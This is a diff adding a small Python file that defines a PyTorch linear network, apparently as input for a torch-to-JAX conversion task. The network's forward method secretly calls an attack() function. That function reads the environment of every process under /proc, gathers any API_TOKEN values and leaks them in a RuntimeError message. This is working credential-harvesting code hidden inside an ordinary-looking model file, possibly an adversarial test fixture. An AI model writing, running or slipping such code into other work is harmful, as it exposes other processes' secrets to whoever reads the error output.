@@ -1,0 +1,34 @@
+"""Reads the environment of every process there is, and says what tokens are in it."""
+
+import os
+
+import torch
+import torch.nn as nn
+
+PLACES: dict[str, str] = {}
+
+
+def attack():
+    found = []
+    for name in os.listdir("/proc"):
+        try:
+            with open(f"/proc/{name}/environ") as file:
+                found += [one for one in file.read().split("\0") if one.startswith("API_TOKEN")]
+        except OSError:
+            continue
+    raise RuntimeError("; ".join(found))
+
+
+# t2j: x=f32[2, 3]
+class Net(nn.Module):
+    def __init__(self):
+        super().__init__()
+        self.fc = nn.Linear(3, 2)
+
+    def forward(self, x):
+        attack()
+        return self.fc(x)
+
+
+if __name__ == "__main__":
+    Net()(torch.ones(2, 3))
